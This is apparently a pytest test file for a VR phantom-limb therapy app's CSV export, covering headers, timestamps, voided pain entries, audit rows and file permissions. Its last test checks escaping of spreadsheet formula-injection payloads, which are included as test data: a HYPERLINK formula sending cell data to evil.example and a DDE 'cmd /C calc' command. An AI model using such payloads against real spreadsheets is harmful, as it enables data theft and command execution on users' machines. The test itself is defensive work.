"""`vrtherapy export`: CSV files with a header row, ISO timestamps, every record of the chosen patients."""

from __future__ import annotations

import csv
from datetime import datetime
from pathlib import Path

import pytest

from tests.known_patient import BASELINE, BETWEEN, FLAGGED_ROWS, SESSIONS, build_known_patient
from vrtherapy.cli import main
from vrtherapy.records import PatientProfile, RecordStore
from vrtherapy.records.export import AUDIT_COLUMNS, EXERCISE_COLUMNS, PAIN_COLUMNS, PATIENT_COLUMNS, SESSION_COLUMNS


@pytest.fixture
def db(records_db) -> tuple[str, list[int]]:
    """The known patient and one more, on an SQLite file and on PostgreSQL (each test runs on both)."""
    path = records_db
    with RecordStore.open(path) as store:
        ids = build_known_patient(store)
        store.add_patient(PatientProfile("P002", "right", "lower", "transfemoral"))
        store.add_pain("P002", 8, "between", triggers=["cold"])
    return path, ids


def read(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(newline="", encoding="utf-8") as f:
        reader = csv.DictReader(f)
        return list(reader.fieldnames or []), list(reader)


def test_export_writes_five_csv_files_for_one_patient(db, tmp_path, capsys):
    path, ids = db
    out = tmp_path / "csv"
    assert main(["export", "--db", str(path), "--patient", "P001", "--output", str(out)]) == 0
    assert capsys.readouterr().out.count("vrtherapy: wrote ") == 5

    header, patients = read(out / "patients.csv")
    assert header == list(PATIENT_COLUMNS) and [p["patient_id"] for p in patients] == ["P001"]
    assert patients[0]["amputation_date"] == "2023-06-01"

    header, sessions = read(out / "sessions.csv")
    assert header == list(SESSION_COLUMNS)
    assert [int(s["session_id"]) for s in sessions] == ids
    assert [int(s["session_number"]) for s in sessions] == list(range(1, len(SESSIONS) + 1))
    assert [s["status"] for s in sessions][-1] == "capped" and {s["exercises_planned"] for s in sessions} == {"3"}
    assert [s["clinically_important"] for s in sessions] == ["true" if i in FLAGGED_ROWS else "false"
                                                             for i in range(len(SESSIONS))]  # fmt: skip
    assert [s["pain_before"] for s in sessions] == ["" if row[1] is None else str(row[1]) for row in SESSIONS]
    unfinished = sessions[4]
    assert unfinished["status"] == "unfinished" and unfinished["ended_at"] == ""
    for s in sessions:
        assert datetime.fromisoformat(s["started_at"]).tzinfo is not None

    header, exercises = read(out / "exercises.csv")
    assert header == list(EXERCISE_COLUMNS) and len(exercises) == 2 * len(SESSIONS)
    assert {e["completed"] for e in exercises} == {"true", "false"}
    assert float(exercises[0]["rom_deg"]) == 30.0

    header, pain = read(out / "pain.csv")
    assert header == list(PAIN_COLUMNS)
    assert len(pain) == len(BASELINE) + len(BETWEEN) + 1 + sum(r[1] is not None for r in SESSIONS) + \
        sum(r[2] is not None for r in SESSIONS)  # fmt: skip
    (voided,) = [p for p in pain if p["voided"] == "true"]
    assert (voided["score"], voided["void_reason"]) == ("9", "logged to the wrong patient") and voided["voided_at"]
    between = [p for p in pain if p["kind"] == "between" and p["voided"] == "false"][len(BASELINE):]
    assert between[2]["triggers"] == "full bladder; weather change"
    assert between[2]["medications"] == "gabapentin; amitriptyline"
    assert all(p["session_id"] == "" for p in between) and all(p["duration_min"] == "45.0" for p in between)
    assert [p["location"] for p in between] == ["", "", "", "phantom", "residual"]

    header, audit = read(out / "audit.csv")
    assert header == list(AUDIT_COLUMNS)
    assert [(a["field"], a["by"], a["reason"]) for a in audit][-1] == ("void", "therapist A", "logged to the wrong patient")
    assert {p["patient_id"] for p in pain} == {"P001"}
    for p in pain:
        assert datetime.fromisoformat(p["at"]).utcoffset().total_seconds() == 0

    for csv_file in out.iterdir():
        assert csv_file.stat().st_mode & 0o777 == 0o600


def test_export_without_a_patient_takes_everyone(db, tmp_path):
    path, _ = db
    out = tmp_path / "all"
    assert main(["export", "--db", str(path), "--output", str(out)]) == 0
    assert [p["patient_id"] for p in read(out / "patients.csv")[1]] == ["P001", "P002"]
    assert {p["patient_id"] for p in read(out / "pain.csv")[1]} == {"P001", "P002"}


def test_export_of_an_unknown_patient_writes_nothing(db, tmp_path, capsys):
    path, _ = db
    out = tmp_path / "none"
    assert main(["export", "--db", str(path), "--patient", "P404", "--output", str(out)]) == 2
    assert capsys.readouterr().err == "vrtherapy: --patient: unknown patient 'P404'\n"
    assert not out.exists()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_a_spreadsheet_would_run_as_a_formula_is_escaped(tmp_path, start):
    path = tmp_path / "records.sqlite3"
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    with RecordStore.open(path) as store:
        store.add_patient(PatientProfile("P001", "left", "upper", "transradial", notes=payload))
        sid = store.start_session("P001", payload, "offscreen")
        store.add_pain("P001", 4, "before", session_id=sid)
        store.finish_session(sid, None, "completed")
        store.add_pain("P001", 5, "between", note=payload, triggers=[f"{start}cmd|' /C calc'!A0" if start.strip() else "x"])
        store.add_pain("P001", 6, "after", session_id=sid)
    out = tmp_path / "csv"
    assert main(["export", "--db", str(path), "--output", str(out)]) == 0
    assert read(out / "patients.csv")[1][0]["notes"] == "'" + payload
    assert read(out / "sessions.csv")[1][0]["playlist"] == "'" + payload
    assert read(out / "sessions.csv")[1][0]["pain_drop"] == "-2"  # numbers stay numbers
    (entry,) = [p for p in read(out / "pain.csv")[1] if p["kind"] == "between"]
    assert entry["note"] == "'" + payload
    for csv_file in out.iterdir():
        for row in csv.reader(csv_file.open(newline="", encoding="utf-8")):
            for value in row:
                assert not value.startswith(("=", "+", "@", "\t", "\r")), (csv_file.name, value)
